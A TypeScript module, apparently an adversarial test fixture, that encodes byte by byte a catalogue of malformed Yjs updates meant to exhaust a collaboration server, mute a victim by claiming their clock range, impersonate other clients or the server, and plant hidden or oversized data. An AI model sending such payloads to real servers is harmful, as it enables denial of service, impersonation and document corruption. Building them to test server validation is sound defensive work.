// Updates that no client makes: made to cost a server its time, to silence someone, or to leave something behind that
// breaks later. Byte by byte, in Yjs's V1 encoding.
import * as encoding from 'lib0/encoding'
import type * as Y from 'yjs'

type Write = (out: encoding.Encoder) => void

function bytes(write: Write): Uint8Array {
  const out = encoding.createEncoder()
  write(out)
  return encoding.toUint8Array(out)
}
const varints = (...values: number[]) =>
  bytes((out) => {
    for (const value of values) encoding.writeVarUint(out, value)
  })

const GC = 0
const SKIP = 10
const ITEM_ANY_IN_ROOT = 8 | 0x20

/** Writes `records[key] = value` as an item without neighbours. */
function item(out: encoding.Encoder, root: string, key: string, value: unknown): void {
  encoding.writeUint8(out, ITEM_ANY_IN_ROOT)
  encoding.writeVarUint(out, 1)
  encoding.writeVarString(out, root)
  encoding.writeVarString(out, key)
  encoding.writeVarUint(out, 1)
  encoding.writeAny(out, value as never)
}

/** One group of structs of `client` from `clock`, and no deletions. */
function group(client: number, clock: number, count: number, write: Write): Uint8Array {
  return bytes((out) => {
    for (const value of [1, count, client, clock]) encoding.writeVarUint(out, value)
    write(out)
    encoding.writeVarUint(out, 0)
  })
}

/** Bombs by name. `doc` is the board as the attacker sees it, `own` the attacker's client id, `other` the victim's. */
export function bombs(doc: Y.Doc, own: number, other: number): Record<string, Uint8Array> {
  const next = doc.store.clients.get(other)?.reduce((sum, struct) => sum + struct.length, 0) ?? 0
  const gc = (client: number, clock: number, length: number) =>
    group(client, clock, 1, (out) => {
      encoding.writeUint8(out, GC)
      encoding.writeVarUint(out, length)
    })
  const nested = (depth: number) => {
    let value: unknown = 1
    for (let i = 0; i < depth; i++) value = [value]
    return value
  }
  const fakeClients = (count: number) =>
    bytes((out) => {
      encoding.writeVarUint(out, count)
      for (let i = 0; i < count; i++) {
        for (const n of [1, 1_000_000 + i, 5]) encoding.writeVarUint(out, n)
        encoding.writeUint8(out, GC)
        encoding.writeVarUint(out, 1)
      }
      encoding.writeVarUint(out, 0)
    })
  return {
    'nothing at all': new Uint8Array(0),
    'a lone byte': varints(1),
    '20,000 made-up clients': fakeClients(20_000),
    '300 made-up clients with gaps': fakeClients(300),
    'more structs than bytes': varints(1, 2 ** 40, own, 0),
    'a group twice': bytes((out) => {
      encoding.writeVarUint(out, 2)
      for (const clock of [0, 1]) {
        for (const n of [1, own, clock]) encoding.writeVarUint(out, n)
        item(out, 'records', 'shape:a', 1)
      }
      encoding.writeVarUint(out, 0)
    }),
    'an endless gap of its own': gc(own, 0, 2 ** 40),
    'a very long gap of its own': gc(own, 0, 2 ** 30),
    'a clock far ahead': gc(own, 2 ** 40, 1),
    'an empty struct': gc(own, 0, 0),
    'a skipped part': group(own, 0, 2, (out) => {
      encoding.writeUint8(out, SKIP)
      encoding.writeVarUint(out, 5)
      item(out, 'records', 'shape:a', 1)
    }),
    'the mute: the next clocks of someone else': gc(other, next, 1_000_000),
    'a clock gap for someone else': gc(other, next + 5, 1),
    'something under the id of someone else': group(other, next, 1, (out) => item(out, 'records', 'shape:a', 1)),
    'something under the id of the server': gc(1, doc.store.clients.get(1)?.reduce((n, s) => n + s.length, 0) ?? 0, 1),
    'a deletion of what does not exist': varints(0, 1, other, 1, 1_000_000, 5),
    'a deletion of clients that do not exist': bytes((out) => {
      encoding.writeVarUint(out, 0)
      encoding.writeVarUint(out, 10_000)
      for (let i = 0; i < 10_000; i++) for (const n of [5_000_000 + i, 1, 0, 1]) encoding.writeVarUint(out, n)
    }),
    'a deletion without end': varints(0, 1, other, 1, 0, 2 ** 40),
    'a value where a record belongs': group(own, 0, 1, (out) => item(out, 'records', 'shape:a', 1)),
    'a root of its own': group(own, 0, 1, (out) => item(out, 'stash', 'a', 'hidden')),
    'the title': group(own, 0, 1, (out) => item(out, 'meta', 'title', 'Mine now')),
    'a value 5,000 deep': group(own, 0, 1, (out) => item(out, 'records', 'shape:a', nested(5_000))),
    'a list in the records': group(own, 0, 1, (out) => {
      encoding.writeUint8(out, 8)
      encoding.writeVarUint(out, 1)
      encoding.writeVarString(out, 'records')
      encoding.writeVarUint(out, 1)
      encoding.writeAny(out, 'hidden')
    }),
    'an unknown kind of content': group(own, 0, 1, (out) => encoding.writeUint8(out, 0x1f)),
    noise: bytes((out) => {
      for (let i = 0; i < 2_000; i++) encoding.writeUint8(out, (i * 7919) % 256)
    }),
  }
}
